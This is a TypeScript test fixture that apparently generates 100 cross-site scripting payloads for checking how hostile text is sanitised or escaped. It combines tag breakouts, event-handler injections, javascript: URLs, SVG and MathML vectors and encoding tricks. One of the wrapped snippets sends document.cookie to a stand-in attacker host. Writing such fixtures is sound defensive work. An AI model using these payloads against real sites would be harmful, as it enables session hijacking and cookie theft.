/** What a hostile text may try: tags, attributes, breakouts, foreign markup, encodings. 100 of them. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...wraps('alert(1)'),
  ...wraps("fetch('//evil.test/'+document.cookie)"),
  ...wraps('top.x=1'),
  ...wraps('document.title="x"'),
].slice(0, 100)

function wraps(code: string): readonly string[] {
  return [
    `<script>${code}</script>`,
    `"><script>${code}</script>`,
    `'><script>${code}</script>`,
    `</textarea><script>${code}</script>`,
    `</title><script>${code}</script>`,
    `</button></form><script>${code}</script>`,
    `--><script>${code}</script>`,
    `]]><script>${code}</script>`,
    `<ScRiPt>${code}</sCrIpT>`,
    `<img src=x onerror=${code}>`,
    `"><img src=x onerror="${code}">`,
    `' onmouseover='${code}`,
    `" autofocus onfocus="${code}`,
    `\` onclick=\`${code}`,
    `<svg onload=${code}>`,
    `<svg><script>${code}</script></svg>`,
    `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
    `<a href="javascript:${code}">打 110</a>`,
    `<iframe srcdoc="<script>${code}</script>"></iframe>`,
    `<body onload=${code}>`,
    `<details open ontoggle=${code}>`,
    `<template><script>${code}</script></template>`,
    `&lt;script&gt;${code}&lt;/script&gt;`,
    `\u202e<script>${code}</script>\u200b`,
    `【<script>${code}</script>】\n1. <b onclick=${code}>110</b>`,
  ]
}
